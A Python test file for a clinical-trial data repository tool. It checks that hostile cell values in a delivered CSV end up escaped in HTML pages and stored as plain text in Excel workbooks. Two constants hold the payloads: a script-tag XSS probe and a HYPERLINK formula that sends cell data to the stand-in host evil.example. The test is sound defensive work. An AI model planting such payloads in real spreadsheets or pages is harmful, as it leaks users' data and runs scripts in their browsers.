"""Delivered cells holding ``<script>`` or ``=HYPERLINK(...)`` (issue 12): the values travel
from a delivery through harmonisation and validation into data queries, and every workbook and
HTML page the tool then writes shows them as text - escaped in HTML, never a formula in a
workbook - while keeping them (a curator must see what was delivered).

The API's side (JSON, the service's workbook download) is tested from the outside in
tests/service/test_outside.py; released data cannot hold free text (the dictionary has none),
and extracts' CSV files and analysis tables are tested there too.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from repository.deliveries import ingest
from repository.errors import IdentifierProblem
from repository.example import create
from repository.example.mappings import write_mappings
from repository.settings import load_settings
from repository.store import Store
from repository.trials import add_trial, load_registry_file
from repository.workspace import init_workspace

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = '<script>alert("x")</script>'
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
#: (row of MISTRAL's delivery, column, hostile value): sex is recoded (an unknown code is a
#: mapping problem), site becomes the integer centre (text there is a conversion problem)
PLANTED = [(0, "sex", SCRIPT), (1, "site", LINK), (2, "sex", LINK), (3, "site", SCRIPT)]


def _plant(delivery: Path) -> None:
    with delivery.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    for row, column, value in PLANTED:
        rows[1 + row][header.index(column)] = value
    with delivery.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    example = base / "example"
    create(example, trials=2, participants=60)
    registry = yaml.safe_load((example / "topic.yaml").read_text())["trials"]
    assert registry[0]["acronym"] == "MISTRAL" and registry[0]["delivery"]["format"] == "csv"
    _plant(example / registry[0]["delivery"]["file"])
    dictionary = base / "dictionary"
    dictionary.mkdir()
    shutil.copy(ROOT / "dictionaries" / "gastric-adjuvant" / "dictionary.yaml", dictionary)
    write_mappings(example, dictionary / "mappings" / "1.0.0")
    init_workspace(base / "ws", topic="gastric-adjuvant", dictionary=dictionary, actor="curator")
    with Store.open(load_settings(base / "ws", actor="curator", env={})) as store:
        with store.transaction() as session:
            topic = store.topic(session)
            for spec in load_registry_file(example / "topic.yaml"):
                add_trial(session, topic, spec, actor="curator")
        for t in registry:
            d = t["delivery"]
            options = {k: d[k] for k in ("encoding", "delimiter", "sheet") if d.get(k)}
            kwargs: dict[str, Any] = dict(format=d["format"], id_column=d["id_column"],
                                          read_options=options)
            try:
                ingest(store, t["acronym"], example / d["file"], **kwargs)
            except IdentifierProblem:
                ingest(store, t["acronym"], example / d["file"],
                       allow_id_problems="to be queried", **kwargs)
    return base / "ws"


def _ipdrepo(workspace: Path, *args: str) -> Any:
    from repository.cli import cli

    env = {"IPDREPO_WORKSPACE": str(workspace), "IPDREPO_USER": "curator"}
    return CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)


def test_hostile_cells_are_text_in_every_workbook_and_page(workspace: Path,
                                                           tmp_path: Path) -> None:
    validated = _ipdrepo(workspace, "validate", "--json")
    assert validated.exit_code == 6, validated.output  # the planted values are findings
    listed = _ipdrepo(workspace, "queries", "list", "--trial", "MISTRAL", "--json")
    assert listed.exit_code == 0, listed.output
    rows = json.loads(listed.stdout)
    shown = json.dumps(rows)
    assert "<script>" in shown and "HYPERLINK" in shown  # kept as delivered, as JSON text
    for row in rows:  # mapping problems wait on the curators' list: send them to the trial
        if row["audience"] == "curator" and any(v in json.dumps(row) for v in ("<script>",
                                                                               "HYPERLINK")):
            assert _ipdrepo(workspace, "queries", "forward", str(row["id"])).exit_code == 0
    outputs = [tmp_path / "MISTRAL-queries.xlsx", tmp_path / "dashboard.html"]
    assert _ipdrepo(workspace, "queries", "export", "MISTRAL", "-o", str(outputs[0])
                    ).exit_code == 0
    assert _ipdrepo(workspace, "queries", "dashboard", "--html", str(outputs[1])).exit_code == 0
    reported = _ipdrepo(workspace, "report", "--json")
    assert reported.exit_code == 0, reported.output
    outputs += [Path(p) for p in json.loads(reported.stdout)["written"]]
    pages = [p for p in outputs if p.suffix == ".html"]
    assert len(pages) >= 3  # the dashboard, MISTRAL's report, the topic overview
    escaped = 0
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script" not in text.lower(), page
        escaped += "&lt;script&gt;" in text
    assert escaped, "the hostile value should be shown (escaped) in a page"
    _workbook_has_text_only(outputs[0])


def _workbook_has_text_only(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate,
                                               cell.value)
                if isinstance(cell.value, str):
                    found |= {v for v in (SCRIPT, LINK) if v in cell.value}
    assert found == {SCRIPT, LINK}, f"{path.name} should show both values as text: {found}"
